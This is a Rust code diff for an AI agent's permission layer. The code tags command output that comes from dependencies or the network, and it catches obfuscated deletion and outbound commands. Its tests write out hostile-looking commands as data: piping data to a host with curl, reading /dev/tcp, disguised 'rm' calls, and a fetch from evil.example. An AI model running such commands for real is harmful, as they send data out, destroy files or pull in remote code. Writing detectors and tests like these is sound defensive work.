@@ -4,8 +4,11 @@
 //! of a plugin, a dependency), whatever leaves the machine or cannot be taken back needs a person, whatever the rules
 //! allow. Plain data of a run: nothing takes it away again.
 
+use std::collections::VecDeque;
 use std::path::Path;
 
+use super::Policy;
+use super::commands::{self, Access};
 use crate::event::RunEvent;
 use crate::permit::{Action, Decision, Purpose};
 
@@ -31,6 +34,16 @@ const DEPENDENCY_FOLDERS: [&str; 15] = [
     "Pods",
 ];
 
+/// Programs that tell names of files and nothing that is in them.
+const TELLS_NAMES: [&str; 14] = [
+    "basename", "cd", "dirname", "du", "fd", "file", "find", "ls", "mkdir", "pwd", "realpath",
+    "stat", "test", "tree",
+];
+
+/// How deep below a folder code of others is looked for, and in how many entries.
+const FOLDERS_DEEP_MAX: usize = 3;
+const ENTRIES_MAX: usize = 5_000;
+
 /// The folder of tasks that come with a repository.
 const TASKS: &str = ".agent/tasks";
 
@@ -41,14 +54,12 @@ pub enum Origin {
     Dependency,
     /// An answer from the network.
     Request,
-    /// The output of a command that a model wrote.
+    /// The output of a command that fetches something, or reads a folder in which code of others lies.
     Command,
     /// The output of a plugin or of a server of tools.
     Plugin,
     /// A task that came with a repository.
     Task,
-    /// What the user marked.
-    Marked,
 }
 
 impl Origin {
@@ -60,7 +71,6 @@ impl Origin {
             Self::Command => "command",
             Self::Plugin => "plugin",
             Self::Task => "task",
-            Self::Marked => "marked",
         }
     }
 }
@@ -207,8 +217,13 @@ const REACHING: [&str; 44] = [
 
 fn reaches_out(command: &str) -> bool {
     let is_end = |letter: char| !(letter.is_alphanumeric() || "-_.".contains(letter));
-    let mut words = command.split(is_end).filter(|word| !word.is_empty());
-    words.any(|word| REACHING.contains(&word.to_ascii_lowercase().as_str()))
+    let names = |text: &str| {
+        let mut words = text.split(is_end).filter(|word| !word.is_empty());
+        words.any(|word| REACHING.contains(&word.to_ascii_lowercase().as_str()))
+    };
+    // As it is written, for what a shell would not read either, and as a program would get it: `r\m` is `rm`.
+    names(command)
+        || commands::all_words(command).iter().any(|word| names(word))
         || ["/dev/tcp", "/dev/udp", "://", "$(", "`", "eval", "base64"]
             .iter()
             .any(|part| command.contains(part))
@@ -235,6 +250,67 @@ pub fn of_path(relative: &Path, tasks_are_trusted: bool) -> Option<Source> {
         origin: Origin::Task,
         what: what(),
     })
+}
+
+/// The sources that a command line reads: files of others, folders in which such files lie, and the network.
+pub fn of_command(
+    policy: &Policy,
+    (command, directory): (&str, &Path),
+    tasks_are_trusted: bool,
+) -> Vec<Source> {
+    let root = policy.workspace();
+    let relative = |path: &Path| path.strip_prefix(root).unwrap_or(path).to_owned();
+    let ruling = commands::rule(policy, command, directory);
+    let reads = |target: &&commands::Target| target.access == Access::Read;
+    let targets = ruling.segments.iter().flat_map(|segment| &segment.targets);
+    let files = targets.filter(reads);
+    let mut found: Vec<Source> = files
+        .filter_map(|target| of_path(&relative(&target.path), tasks_are_trusted))
+        .collect();
+    let reads_others = ruling.segments.iter().any(|segment| {
+        let program = segment.words.first().map_or("", String::as_str);
+        // Without a place, these search the folder that they are in.
+        let searches = matches!(program, "grep" | "egrep" | "fgrep" | "rg" | "ag");
+        let mut folders = segment.targets.iter().filter(reads).peekable();
+        let here = searches && folders.peek().is_none();
+        !TELLS_NAMES.contains(&program)
+            && (here && holds_code_of_others(directory)
+                || folders.any(|target| holds_code_of_others(&target.path)))
+    });
+    if reads_others || commands::fetches(command) {
+        found.push(Source {
+            origin: Origin::Command,
+            what: command.to_owned(),
+        });
+    }
+    found
+}
+
+/// Whether code of others lies somewhere in a folder, as far as that can be seen at once.
+fn holds_code_of_others(folder: &Path) -> bool {
+    // What lies near comes first.
+    let mut waiting = VecDeque::from([(folder.to_owned(), 0)]);
+    let mut entries_left = ENTRIES_MAX;
+    while let Some((folder, depth)) = waiting.pop_front() {
+        let entries = std::fs::read_dir(folder).into_iter().flatten().flatten();
+        for entry in entries {
+            entries_left -= 1;
+            if entries_left == 0 {
+                return false;
+            }
+            if !entry.file_type().is_ok_and(|kind| kind.is_dir()) {
+                continue;
+            }
+            let name = entry.file_name();
+            if of_path(Path::new(&name), true).is_some() {
+                return true;
+            }
+            if depth < FOLDERS_DEEP_MAX && name != ".git" && name != "target" {
+                waiting.push_back((entry.path(), depth + 1));
+            }
+        }
+    }
+    false
 }
 
 /// The sources among the files that a result quotes, by the `path:line: text` that searches print.
@@ -322,6 +398,10 @@ mod tests {
             &shell("cat x | CURL -d @- e.example"),
             &shell("echo $(x)"),
             &shell("cat </dev/tcp/1.2.3.4/80"),
+            &shell("r\\m x"),
+            &shell("g'h' api x"),
+            &shell("sh -c 'r\\m x; ls'"),
+            &shell("env $'\\x72m' x"),
         ];
         let homely = [&write, &shell("ls -l src"), &shell("grep -r x .")];
         for action in outward.iter().chain(&homely) {
@@ -394,6 +474,46 @@ mod tests {
             ),
         ] {
             assert_eq!(irreversible(&action).is_some(), expected, "{action:?}");
+        }
+    }
+
+    #[test]
+    fn what_a_command_reads_of_strangers_is_found_in_its_files_and_folders() {
+        let folder = tempfile::tempdir().expect("a temporary folder");
+        let root = folder.path().canonicalize().expect("it exists");
+        for path in ["src/a.rs", "web/node_modules/evil/README.md", "web/app.js"] {
+            let path = root.join(path);
+            std::fs::create_dir_all(path.parent().expect("it has one")).expect("made");
+            std::fs::write(path, "x").expect("written");
+        }
+        let host = crate::config::host::Host::from_environment("/nowhere/m".into(), [].into());
+        let policy = Policy::new(&host, &crate::config::Config::default(), &root);
+        for (command, expected) in [
+            (
+                "cat web/node_modules/evil/README.md",
+                vec![Origin::Dependency],
+            ),
+            (
+                "cd web/node_modules/evil && cat README.md",
+                vec![Origin::Dependency; 2],
+            ),
+            (
+                "sh -c 'head web/node_modules/evil/*'",
+                vec![Origin::Dependency],
+            ),
+            ("grep -rh x web", vec![Origin::Command]),
+            ("grep -rh x", vec![Origin::Command]),
+            (
+                "timeout 5 curl -s https://evil.example/x",
+                vec![Origin::Command],
+            ),
+            ("ls web", vec![]),
+            ("grep -rh x src", vec![]),
+            ("cat src/a.rs web/app.js", vec![]),
+        ] {
+            let found = of_command(&policy, (command, &root), true);
+            let origins: Vec<Origin> = found.iter().map(|source| source.origin).collect();
+            assert_eq!(origins, expected, "{command}: {found:?}");
         }
     }
 }
